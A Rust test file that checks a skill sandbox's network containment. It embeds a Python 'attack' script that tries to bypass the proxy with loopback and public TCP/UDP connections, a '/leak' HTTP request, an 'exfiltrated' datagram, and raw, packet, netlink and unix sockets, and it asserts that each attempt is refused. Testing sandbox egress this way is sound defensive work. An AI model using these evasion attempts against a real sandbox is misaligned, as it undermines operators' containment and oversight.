//! Attacks of a network call's program that ignores its proxy (docs/sandbox.md: "a program
//! that ignores the proxy reaches the proxy all the same"), each asserting the refusal and
//! its reason: TCP to the host's loopback (the namespace's loopback is the call's own,
//! where nothing listens on that port: `ECONNREFUSED`, and the host's listener sees
//! nothing), UDP to it (nothing arrives), TCP to a public address (the namespace's own
//! listener takes it to the proxy, which refuses the address: `403`; a port the namespace
//! does not take is refused, `ECONNREFUSED`), UDP to a public DNS server (answered, or
//! dropped, by the namespace's own name server: nothing leaves), DNS through the system
//! resolver (a benchmark-range address of the namespace, never a real one), and the socket
//! families the network filter keeps closed (`AF_PACKET`, raw, `AF_NETLINK`, `AF_UNIX`:
//! `EPERM`). And a tool of a skill without network still cannot make any socket.

use std::net::UdpSocket;
use std::time::Duration;

use serde_json::json;

use super::context_files::sandbox;
use super::egress::{namespaces_available, network_skill, run_in};
use super::harness::fake_core::FakeCore;
use super::harness::{assert_errno, SkillRoot};

/// The attempts every attack makes (see [`PRELUDE`](super::harness::PRELUDE)'s `attempt`).
const ATTACKS: &str = r#"
def tcp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect((host, port))
def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"exfiltrated", (host, port))
def http_status(host, port):
    s = socket.create_connection((host, port), timeout=10)
    s.sendall(b"GET /leak HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n")
    return s.recv(4096).decode(errors="replace").split("\r\n")[0]
reply({
    "host_tcp": attempt(lambda: tcp("127.0.0.1", args["tcp_port"])),
    "host_tcp6": attempt(lambda: tcp("::1", args["tcp_port"], socket.AF_INET6)),
    "host_udp": attempt(lambda: udp("127.0.0.1", args["udp_port"])),
    "public_tcp_proxy_port": attempt(lambda: tcp("8.8.8.8", 3128)),
    "public_tcp_https": attempt(lambda: http_status("1.1.1.1", 443)),
    "public_udp_dns": attempt(lambda: udp("8.8.8.8", 53)),
    "dns": attempt(lambda: socket.getaddrinfo("example.com", 443, socket.AF_INET)[0][4][0]),
    "packet": attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)),
    "raw": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
    "netlink": attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)),
    "unix": attempt(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)),
    "proxy_env": os.environ.get("HTTP_PROXY"),
})
"#;

#[test]
fn network_call_cannot_go_around_its_proxy() {
    if !namespaces_available("network_call_cannot_go_around_its_proxy") {
        return;
    }
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let root = SkillRoot::new();
    network_skill(&root, "attack", ATTACKS);
    let core = FakeCore::default();
    let args = json!({
        "tcp_port": tcp.local_addr().unwrap().port(),
        "udp_port": udp.local_addr().unwrap().port(),
    });
    let r = run_in(&sandbox(), &root, &core, "attack", args);
    assert!(r.success, "{r:?}");
    let out = r.data.unwrap();
    assert_eq!(
        out["proxy_env"], "http://127.0.0.1:3128",
        "a network call: {out}"
    );
    // The namespace's loopback is the call's own: the host's port is not there.
    let refused = libc::ECONNREFUSED;
    assert_errno(&out["host_tcp"], refused, "TCP to the host's loopback");
    assert_errno(&out["host_tcp6"], refused, "TCP to the host's ::1");
    tcp.set_nonblocking(true).unwrap();
    assert!(
        tcp.accept().is_err(),
        "a connection reached the host's loopback: {out}"
    );
    // Another address's port the namespace does not take: refused there.
    assert_errno(
        &out["public_tcp_proxy_port"],
        refused,
        "TCP to 8.8.8.8:3128",
    );
    // A taken port goes to the proxy, which judges the host: an address nobody declared.
    let status = out["public_tcp_https"]["value"]
        .as_str()
        .unwrap_or_default();
    assert!(status.contains(" 403 "), "TCP to 1.1.1.1:443: {out}");
    assert_eq!(
        (core.proxy.served().iter())
            .map(|p| p.request_line.clone())
            .collect::<Vec<_>>(),
        ["GET http://1.1.1.1:443/leak HTTP/1.1"],
        "only the direct connection reached the proxy, as the address it dialled"
    );
    // UDP to a public DNS server stays in the namespace (its own name server drops what is
    // not a question), and to 127.0.0.1 on the namespace's own loopback.
    assert_eq!(out["public_udp_dns"]["ok"], true, "{out}");
    let mut got = [0u8; 64];
    assert!(
        udp.recv_from(&mut got).is_err(),
        "a datagram reached the host's loopback: {out}"
    );
    // The system resolver is answered in the namespace, with an address of its own.
    let address = out["dns"]["value"].as_str().unwrap_or_default();
    assert!(
        address.starts_with("198.18.") || address.starts_with("198.19."),
        "DNS gave a real address: {out}"
    );
    // The network filter: IP TCP/UDP sockets only.
    for family in ["packet", "raw", "netlink", "unix"] {
        assert_errno(&out[family], libc::EPERM, family);
    }
}

#[test]
fn tool_without_network_still_cannot_make_a_socket() {
    let root = SkillRoot::new();
    root.python_skill(
        "offline",
        r#"
        reply({
            "inet": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM)),
            "inet_udp": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)),
            "proxy_env": os.environ.get("HTTP_PROXY"),
        })
        "#,
    );
    let core = FakeCore::default();
    let r = run_in(&sandbox(), &root, &core, "offline", json!({}));
    assert!(r.success, "{r:?}");
    let out = r.data.unwrap();
    assert_errno(&out["inet"], libc::EPERM, "socket(AF_INET, SOCK_STREAM)");
    assert_errno(&out["inet_udp"], libc::EPERM, "socket(AF_INET, SOCK_DGRAM)");
    assert_eq!(out["proxy_env"], serde_json::Value::Null, "{out}");
}
